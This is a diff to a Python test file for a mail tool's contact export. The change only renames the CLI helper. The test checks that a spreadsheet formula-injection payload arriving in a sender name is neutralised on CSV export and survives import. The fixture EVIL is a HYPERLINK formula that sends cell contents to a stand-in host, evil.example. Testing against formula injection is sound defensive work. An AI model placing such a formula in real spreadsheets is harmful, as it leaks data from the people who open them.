@@ -13,7 +13,7 @@ from maild.directory.csv_formulas import TRIGGERS, neutralise, restore
 from maild.directory.csv_import import import_csv
 from maild.directory.csv_rows import ImportOptions
 from maild.store.db import Database
-from tests.helpers import maild, make_message, write_config
+from tests.helpers import invoke, make_message, write_config
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -78,16 +78,16 @@ def test_a_learned_sender_name_reaches_the_export_neutralised(tmp_path: Path, db
     box = mailbox.Maildir(tmp_path / "mail", create=True)
     box.add(make_message(subject="hi", sender=f'"{EVIL.replace(chr(34), "")}" <mallory@evil.example>'))
     config = write_config(tmp_path / "home", db_url, [{"name": "m", "type": "maildir", "path": str(box._path)}])
-    maild(config, "thirdparty", "add", "Acme", "--external-id", "C-1")
-    maild(config, "ingest", "--once")
-    message_id = maild(config, "triage", "list").stdout.splitlines()[-1].split()[0]
-    assert "sender learned" in maild(config, "triage", "assign", message_id, "C-1", "--learn").stdout
+    invoke(config, "thirdparty", "add", "Acme", "--external-id", "C-1")
+    invoke(config, "ingest", "--once")
+    message_id = invoke(config, "triage", "list").stdout.splitlines()[-1].split()[0]
+    assert "sender learned" in invoke(config, "triage", "assign", message_id, "C-1", "--learn").stdout
     name = EVIL.replace('"', "")
-    contacts = _cells(maild(config, "export", "contacts").stdout)
+    contacts = _cells(invoke(config, "export", "contacts").stdout)
     assert "'" + name in contacts and name not in contacts
-    assert name in _cells(maild(config, "export", "contacts", "--raw").stdout)
+    assert name in _cells(invoke(config, "export", "contacts", "--raw").stdout)
     out = tmp_path / "contacts.csv"
-    maild(config, "export", "contacts", "--output", str(out))
-    assert maild(config, "import", "contacts", str(out)).stdout.startswith("inserted 1, updated 0, rejected 0")
-    listed = maild(config, "contact", "list").stdout
+    invoke(config, "export", "contacts", "--output", str(out))
+    assert invoke(config, "import", "contacts", str(out)).stdout.startswith("inserted 1, updated 0, rejected 0")
+    listed = invoke(config, "contact", "list").stdout
     assert f"{name}" in listed and f"'{name}" not in listed
